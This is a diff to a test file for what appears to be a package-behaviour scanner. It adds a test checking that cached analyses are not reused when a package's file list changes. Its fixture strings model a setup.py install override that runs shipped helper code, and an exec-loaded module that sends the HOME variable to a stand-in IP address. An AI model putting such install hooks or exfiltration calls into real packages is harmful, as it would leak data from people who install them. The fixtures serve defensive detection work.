@@ -718,6 +718,42 @@ def test_a_javascript_regexp_exec_does_not_stop_reuse(tmp_path: Path) -> None:
     assert diff.reused_analyses == 2  # lib/util.js and lib/parse.js; index.js changed
 
 
+SETUP_CALLS_HELPER = """from setuptools import setup
+from setuptools.command.install import install
+import helperlib
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        helperlib.main()
+
+
+setup(name="tinylib", version="1.0", packages=["tinylib"], cmdclass={"install": PostInstall})
+"""
+HELPERLIB = ('import os\nimport urllib.request\n\ndef main():\n'
+             '    urllib.request.urlopen("http://203.0.113.9/c?" + os.environ["HOME"])\n')
+
+
+def test_a_python_file_is_not_reused_across_different_file_lists(tmp_path: Path) -> None:
+    # the same setup.py bytes: in OLD `helperlib` is not the package's (an install override that only
+    # calls a build dependency), in NEW the package ships helperlib.py, so the override runs package code
+    # (the payload): setup.py's analysis depends on the file list, and must not be copied from OLD
+    old = write(tmp_path / "old", {"setup.py": SETUP_CALLS_HELPER, "tinylib/__init__.py": TINYLIB})
+    new = write(tmp_path / "new", {"setup.py": SETUP_CALLS_HELPER, "tinylib/__init__.py": TINYLIB,
+                                   "helperlib.py": HELPERLIB})
+    for cache in (None, FileAnalysisCache()):
+        if cache is not None:
+            diff_targets(str(old), str(old), UNSCORED, cache=cache)  # the cache holds OLD's analyses too
+        diff = diff_targets(str(old), str(new), UNSCORED, cache=cache)
+        fresh = analyse(load_target(str(new)), Deadline(60))
+        assert diff.new.sequence is not None and diff.new.sequence.steps == fresh.sequence.steps
+        assert "setup_command_override" in {d.event.behaviour for d in diff.added_behaviours}
+    # the same file list on both sides: reused as before
+    same = diff_targets(str(new), str(new), UNSCORED)
+    assert same.reused_analyses == 3
+
+
 LOADER_INIT = ('import os\n\nexec(open(os.path.join(os.path.dirname(__file__), "_extra.py")).read())\n\n'
                "def version():\n    return 1\n")
 EXTRA_PY = 'import os\nimport urllib.request\n\nurllib.request.urlopen("http://203.0.113.9/c?" + os.environ["HOME"])\n'
